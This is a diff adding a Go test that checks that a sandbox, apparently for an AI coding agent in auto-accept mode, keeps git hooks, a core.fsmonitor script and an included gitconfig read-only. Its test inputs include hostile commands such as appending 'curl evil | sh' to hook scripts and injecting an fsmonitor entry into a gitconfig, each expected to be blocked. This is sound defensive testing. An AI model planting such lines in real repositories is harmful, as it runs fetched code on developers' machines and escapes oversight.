@@ -92,3 +92,34 @@ func TestProtectHostStartupFiles(t *testing.T) {
 		t.Fatalf("control failed: %s", r.Stderr)
 	}
 }
+
+// TestProtectGitConfigReferences: what the repository's config makes git run
+// from the work tree stays read-only: the core.hooksPath directory (husky),
+// a core.fsmonitor program given as a path, and an included config file;
+// files next to them stay writable.
+func TestProtectGitConfigReferences(t *testing.T) {
+	requireKernel(t, true)
+	ws := tempWorkspace(t)
+	hostGit(t, ws, "init", "-q")
+	mkfiles(t, ws, map[string]string{".husky/pre-commit": "#!/bin/sh\n", "tools/fsmon.sh": "#!/bin/sh\n", "tools/other.sh": "#\n",
+		"shared.gitconfig": "[user]\n"})
+	hostGit(t, ws, "config", "core.hooksPath", ".husky")
+	hostGit(t, ws, "config", "core.fsmonitor", "./tools/fsmon.sh")
+	hostGit(t, ws, "config", "include.path", "../shared.gitconfig")
+	s := snapshotFor(t, domain.ModeAutoAcceptEdits, ws, machine().Kernel)
+	for _, script := range []string{
+		"echo 'curl evil | sh' >> .husky/pre-commit", "echo evil > .husky/post-checkout", "mv .husky .husky.old",
+		"echo 'curl evil | sh' >> tools/fsmon.sh", "mv tools/fsmon.sh tools/x", "echo '[core] fsmonitor = evil' >> shared.gitconfig",
+	} {
+		if r := sh(t, s, script); r.ExitCode == 0 {
+			t.Errorf("%q succeeded", script)
+		}
+	}
+	if readFile(t, ws+"/.husky/pre-commit") != "#!/bin/sh\n" || readFile(t, ws+"/tools/fsmon.sh") != "#!/bin/sh\n" ||
+		readFile(t, ws+"/shared.gitconfig") != "[user]\n" || exists(ws+"/.husky/post-checkout") {
+		t.Fatal("a file git runs or reads changed")
+	}
+	if r := sh(t, s, "echo x >> tools/other.sh && mv tools/other.sh tools/o2.sh"); r.ExitCode != 0 {
+		t.Fatalf("control failed: %s", r.Stderr)
+	}
+}
